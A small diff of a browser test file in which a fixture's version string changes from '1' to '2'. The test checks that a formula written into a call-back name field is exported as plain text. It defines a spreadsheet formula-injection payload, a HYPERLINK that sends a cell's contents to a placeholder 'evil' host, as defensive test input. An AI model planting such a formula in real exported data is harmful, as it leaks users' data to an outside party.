@@ -144,7 +144,7 @@ test('the Content-Security-Policy is in force: header and <meta> agree, other or
 
 test('a call-back name written as a formula is exported as text and imported back unchanged', async () => {
   const BUILTIN = readFileSync(new URL('../../instruments/zg-x-branch-2023.json', import.meta.url), 'utf8');
-  const CALLBACK = BUILTIN.replace('"version": "1",', '"version": "1",\n  "callback": true,');
+  const CALLBACK = BUILTIN.replace('"version": "2",', '"version": "2",\n  "callback": true,');
   const EVIL = '=HYPERLINK("http://evil/?d="&B2,"click")';
   const ROW = ['A', 'A', 'C', 'G', 'A', 'D', 'H', 'C', 'E', 'B', 'D', 'C', 'C', 'C', 'C', 'B', '3'];
   const context = await env.newContext({ viewport: { width: 1280, height: 900 }, serviceWorkers: 'block' });
